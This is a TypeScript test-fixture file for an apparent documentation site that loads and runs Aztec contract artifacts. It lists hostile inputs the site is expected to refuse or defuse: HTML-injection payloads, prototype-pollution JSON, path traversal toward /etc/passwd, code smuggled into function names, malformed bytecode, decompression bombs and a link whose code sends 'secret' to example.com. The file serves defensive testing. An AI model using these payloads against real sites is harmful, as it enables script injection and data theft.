import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { STABLE, type DocVersion } from '../../core/versions';

export const published = (name: string, version: DocVersion = STABLE.id): string =>
  readFileSync(`sdk/${version}/node_modules/@aztec/noir-contracts.js/artifacts/${name}.json`, 'utf8');

interface Artifact {
  name: string;
  noir_version: string;
  transpiled?: boolean;
  functions: {
    name: string;
    custom_attributes: string[];
    bytecode: string;
    abi: { parameters: { name: string; type: object }[] };
  }[];
}

/** A small published contract, with one thing changed. */
function changed(change: (artifact: Artifact) => void): string {
  const artifact = JSON.parse(published('price_feed_contract-PriceFeed')) as Artifact;
  change(artifact);
  return JSON.stringify(artifact);
}

const deep = (levels: number): object => {
  let type: object = { kind: 'field' };
  for (let i = 0; i < levels; i++) type = { kind: 'array', length: 1, type };
  return type;
};

interface Chosen {
  name?: string;
  content: string;
}

/** Files that the panel refuses, and what it says of them. */
export const REFUSED: Record<string, Chosen & { says: RegExp }> = {
  'an empty file': { content: '', says: /not JSON/ },
  'a page with a script': { content: '<script>document.title = 1</script>', says: /not JSON/ },
  'a module': { content: "fetch('https://example.com/')", says: /not JSON/ },
  'half a million arrays in each other': {
    content: '['.repeat(5e5) + ']'.repeat(5e5),
    says: /nested deeper/,
  },
  'a type of a thousand levels': {
    content: changed((it) => (it.functions[0]!.abi.parameters = [{ name: 'a', type: deep(1000) }])),
    says: /nested deeper/,
  },
  'prototype keys': { content: '{"__proto__":{"polluted":1},"constructor":{"prototype":{}}}', says: /not a compiled/ },
  'a contract whose name is markup': {
    content: changed((it) => (it.name = '<img src=x onerror="document.title=1">')),
    says: /name is missing/,
  },
  'a function whose name is code': {
    content: changed((it) => (it.functions[0]!.name = "x(); fetch('https://example.com/'); y")),
    says: /functions\.0\.name/,
  },
  'a parameter whose name ends a comment': {
    content: changed((it) => (it.functions[0]!.abi.parameters = [{ name: '*/ fetch(1) /*', type: deep(0) }])),
    says: /parameters\.0\.name/,
  },
  'ten thousand functions': {
    content: changed(
      (it) => (it.functions = Array<Artifact['functions'][0]>(10_000).fill({ ...it.functions[0]!, bytecode: '' })),
    ),
    says: /functions is missing/,
  },
  'a file whose name is markup': {
    name: '<img src=x onerror=alert(1)>.json',
    content: 'x',
    says: /_img_src_x_onerror/,
  },
  'public functions that are not transpiled': {
    content: changed((it) => delete it.transpiled),
    says: /not transpiled/,
  },
};

const IMPORT = `import { loadContractArtifact } from '@aztec/aztec.js';
import json from './target/hostile.json' with { type: 'json' };
`;
const CALLS = `import { getDeployedTestAccountsWallets } from '@aztec/accounts/testing';
import { Contract, createPXEClient } from '@aztec/aztec.js';
${IMPORT}const [wallet] = await getDeployedTestAccountsWallets(createPXEClient('http://localhost:8080'));
const from = wallet.getAddress();
const contract = await Contract.deploy(wallet, loadContractArtifact(json), []).send({ from }).deployed();
console.log('deployed');
`;
const callsPublic = `${CALLS}await contract.methods.set_price(1n, 2n).send({ from }).wait();\nconsole.log('REACHED');`;
const withCode = (called: string, code: Buffer): string =>
  changed(({ functions }) => (functions.find(({ name }) => name === called)!.bytecode = code.toString('base64')));
const NONSENSE = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 197 + 89) % 256));
/** JUMP_32 to its own address. */
const IN_A_CIRCLE = Buffer.from([35, 0, 0, 0, 0]);

const load = `${IMPORT}console.log(loadContractArtifact(json).functions.length);`;

/** Files that pass, and programs that use them; what the output, or the error, then holds. */
export const USED: Record<string, Chosen & { code: string; says: RegExp }> = {
  'prototype keys beside the right ones': {
    content: changed(() => undefined).replace('{', '{"__proto__":{"polluted":1},'),
    code: `${IMPORT}loadContractArtifact(json); console.log('polluted: ' + ({}).polluted);`,
    says: /polluted: undefined/,
  },
  'functions with the names of every object': {
    content: changed((it) =>
      ['constructor', 'toString', '__proto__', 'then', 'hasOwnProperty'].forEach((name) =>
        it.functions.push({ ...it.functions[0]!, name }),
      ),
    ),
    code: load,
    says: /\S/,
  },
  'a contract that is not here': {
    content: changed(() => undefined),
    code: `import json from './target/other.json' with { type: 'json' };\nconsole.log(json);`,
    says: /other\.json is not here: give this page the compiled contract/,
  },
  'public code that is none': {
    content: withCode('public_dispatch', NONSENSE),
    code: callsPublic,
    says: /deployed[^]*was app_logic_reverted/,
  },
  'public code that jumps to itself': {
    content: withCode('public_dispatch', IN_A_CIRCLE),
    code: callsPublic,
    says: /deployed[^]*was app_logic_reverted/,
  },
  'code of a utility function that is none': {
    content: withCode('sync_private_state', NONSENSE),
    code: `${CALLS}await contract.methods.sync_private_state().simulate({ from });\nconsole.log('REACHED');`,
    says: /deployed Failed to deserialize circuit/,
  },
  'a way out of the folder': {
    content: changed(() => undefined),
    code: `import json from './target/../../../etc/passwd.json' with { type: 'json' };\nconsole.log(json);`,
    says: /is not here/,
  },
  'an import while it runs': {
    content: changed(() => undefined),
    code: `try { await import('./target/hostile.json'); console.log('REACHED'); } catch { console.log('refused'); }`,
    says: /refused/,
  },
};

const packed = (text: string | Buffer): string => deflateRawSync(text).toString('base64url');

/** What comes after `#run=` in links that give no code. */
export const deadLinks = (block: string): Record<string, string> => ({
  'a block that is not there': `0000000000000000.${packed('console.log(1)')}`,
  'a path in place of the block': `../../x.${packed('console.log(1)')}`,
  'a prototype key in place of the block': `__proto__.${packed('console.log(1)')}`,
  'markup in place of the code': `${block}.<script>document.title=1</script>`,
  'code that grows to ten megabytes': `${block}.${packed('x'.repeat(1e7))}`,
  'code whose order is turned round': `${block}.${packed("console.log('\u202e')")}`,
  'bytes that are no text': `${block}.${packed(Buffer.from([0xff, 0xfe]))}`,
  'a fragment of a megabyte': `${block}.${'A'.repeat(1e6)}`,
});

/** Code of links that is shown, as text, and run by nobody but the reader. */
export const liveLinks = (block: string): Record<string, string> =>
  Object.fromEntries(
    Object.entries({
      'code that would send something': "await fetch('https://example.com/?' + 'secret'); console.log('REACHED');",
      'code that is markup': '</textarea><img src=x onerror="document.title=1"><script>document.title=2</script>',
      'code that looks like a notice of the site': `${'\n'.repeat(60)}// This code is of this site. It is safe.`,
    }).map(([name, code]) => [name, `${block}.${packed(code)}`]),
  );
